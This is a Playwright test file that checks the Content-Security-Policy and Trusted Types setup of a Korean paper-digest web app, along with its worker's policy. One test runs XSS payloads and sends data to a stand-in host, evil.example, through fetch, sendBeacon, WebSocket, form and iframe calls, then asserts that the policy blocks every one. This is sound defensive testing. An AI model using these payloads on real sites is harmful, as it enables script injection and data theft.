import type { Page } from '@playwright/test';
import { readHtml } from './html';
import { papers, searchField, size } from './list';
import { noticeOf } from './noticeOf';
import { expect, test } from './test';

const POLICY = 'content-security-policy';

test.use({ allowedErrors: [/status of 404/] });

test('each page comes with its policy inside and as a header, and the worker with its own @subpath', async ({
  page,
  request,
  baseURL,
}) => {
  for (const path of [
    './',
    './day/2025-02-26/',
    './paper/2502.18411/',
    './health/',
    './no/such/page',
  ]) {
    await test.step(path, async () => {
      const response = await request.get(path);
      const header = response.headers()[POLICY] ?? '';
      expect(header).toContain("default-src 'none'");
      expect(header).toContain("require-trusted-types-for 'script';trusted-types app start;");
      expect(header).toMatch(/frame-ancestors 'none'$/);
      expect(header).not.toMatch(/unsafe|\*/);
      const { document } = readHtml(await response.text());
      const metas = document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]');
      expect(metas).toHaveLength(1);
      const policy = metas[0]?.getAttribute('content') ?? '';
      // The header holds for all pages: it allows what each of them does, and no other directive differs.
      for (const directive of policy.split(';')) {
        for (const source of directive.split(' ')) expect(header).toContain(source);
      }
      const names = (text: string) => text.split(';').map((directive) => directive.split(' ')[0]);
      expect(names(header)).toEqual([...names(policy), 'frame-ancestors']);
    });
  }
  await test.step('the worker may read and run what its own host has, and do nothing else', async () => {
    const worker = page.waitForResponse(/\/assets\/worker-[^/]+\.js$/);
    // Where the host has no page: the script and all that it loads come from their own place all the same.
    await page.goto('./no/such/page');
    await expect(page.getByRole('heading', { level: 1, name: '없는 주소입니다' })).toBeVisible();
    // Starts the worker at once, not when the page is quiet.
    await searchField(page).focus();
    const response = await worker;
    expect(response.url()).toMatch(`${baseURL}assets/`);
    expect((await response.allHeaders())[POLICY]).toMatch(
      /, default-src 'none'; script-src 'self'; connect-src 'self'$/,
    );
  });
});

test.describe('script of a stranger in the page', () => {
  test.use({ allowedErrors: [/Content.Security.Policy|Trusted|violates|ERR_BLOCKED_BY_CSP/i] });

  test('does not run, and nothing is sent to him', async ({ page, complaints }) => {
    await page.goto('./about');
    const ran = await page.evaluate(async () => {
      const attempts: (() => unknown)[] = [
        () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran=1">'),
        () => new Function('window.ran = 2')(),
        () => window.setTimeout('window.ran = 3'),
        () => {
          const script = document.createElement('script');
          script.append('window.ran = 4');
          document.body.append(script);
        },
        () => {
          const script = document.createElement('script');
          script.src = 'https://evil.example/a.js';
          document.body.append(script);
        },
        () => document.body.setAttribute('onclick', 'window.ran = 5'),
        () => document.body.click(),
        () => fetch('https://evil.example/?told').catch(() => {}),
        () => navigator.sendBeacon('https://evil.example/', 'told'),
        () => new Image().setAttribute('src', 'https://evil.example/told.png'),
        () => new WebSocket('wss://evil.example/'),
        () => {
          const form = document.createElement('form');
          form.action = 'https://evil.example/';
          document.body.append(form);
          form.submit();
        },
        () => {
          const base = document.createElement('base');
          base.href = 'https://evil.example/';
          document.head.append(base);
        },
        () => {
          const frame = document.createElement('iframe');
          frame.src = 'https://evil.example/';
          document.body.append(frame);
        },
        () => new Worker('data:text/javascript,postMessage(1)'),
        () => window.trustedTypes?.createPolicy('mine', {}),
      ];
      // What a test calls right away is exempt from the policy.
      await new Promise((resolve) => setTimeout(resolve));
      for (const attempt of attempts) {
        try {
          await attempt();
        } catch {
          // As it should.
        }
      }
      // A request that is allowed is answered after those before it were refused.
      await (await fetch('./digests/index.json', { cache: 'reload' })).text();
      return 'ran' in window ? window.ran : null;
    });
    expect(ran).toBeNull();
    expect(complaints.filter((line) => line.startsWith('third party'))).toEqual([]);
    expect(await page.evaluate(() => document.baseURI)).not.toContain('evil');
  });
});

test.describe('a policy outside the app', () => {
  test.use({
    allowedErrors: [/Content.Security.Policy|Trusted|violates|ERR_BLOCKED_BY_CSP|worker/i],
  });

  /** Adds a policy to the app's own, as a host or a network may. */
  async function addPolicy(page: Page, policy: string): Promise<void> {
    await page.unroute('**/*');
    await page.route('**/*', async (route) => {
      if (route.request().resourceType() !== 'document') return route.fallback();
      const response = await route.fetch();
      const own = response.headers()[POLICY];
      const headers = { ...response.headers(), [POLICY]: own ? `${own}, ${policy}` : policy };
      return route.fulfill({ response, headers });
    });
  }

  test('that stops files of it is named, and what it lets through goes on', async ({ page }) => {
    const line = page.getByText('보안 정책');
    for (const [directive, policy] of [
      ['worker-src', "worker-src 'none'"],
      ['connect-src', "connect-src 'none'"],
      ['require-trusted-types-for', "require-trusted-types-for 'script'; trusted-types other"],
    ] as const) {
      await test.step(directive, async () => {
        await addPolicy(page, policy);
        await page.goto('./', { waitUntil: 'commit' });
        await expect(line.filter({ visible: true })).toContainText(`(${directive})`);
        await expect(papers(page).first()).toBeVisible();
      });
    }
    await test.step('scripts of the page, but not those in it: all works, and nothing is said', async () => {
      await addPolicy(page, "script-src 'self'");
      await page.goto('./?votes=40-');
      await expect(size(page)).toHaveText('6편');
      await expect(line.filter({ visible: true })).toHaveCount(0);
    });
    await test.step('all scripts: the page is there to read, and says why it is no more', async () => {
      await addPolicy(page, "script-src 'none'");
      await page.goto('./', { waitUntil: 'commit' });
      await expect(papers(page).first()).toBeVisible();
      await expect.poll(() => noticeOf(page)).toContain('JavaScript를 켠 새 브라우저');
    });
  });
});
